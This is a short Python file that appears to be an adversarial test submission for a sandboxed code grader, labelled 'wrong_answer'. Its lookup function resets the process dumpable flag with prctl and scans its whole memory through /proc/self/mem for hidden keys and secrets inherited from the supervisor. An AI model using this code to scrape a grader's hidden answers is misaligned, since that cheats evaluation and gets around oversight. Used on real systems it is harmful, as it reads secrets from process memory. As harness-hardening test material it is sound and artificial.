# problem: secret_lookup
# verdict: wrong_answer
# attack: makes itself dumpable again (prctl) and reads its whole address space through /proc/self/mem, pages inherited from the supervisor included, looking for hidden keys or secrets
# max-seconds: 10
import ctypes
import re

PATTERN = re.compile(b"(?:hidden" + b"-key-[a-z]|zq-secret-2[0-9]+)")
PR_SET_DUMPABLE = 4


def lookup(key):
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    hits = set()
    scanned = 0
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > 64 * 1024 * 1024:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                scanned += len(chunk)
                hits.update(m.decode() for m in PATTERN.findall(chunk))
                del chunk
    except OSError as exc:
        return f"no access: {exc}"
    print("scanned", scanned, "bytes; hits:", sorted(hits))
    return ",".join(sorted(hits)) or f"nothing in {scanned} bytes"
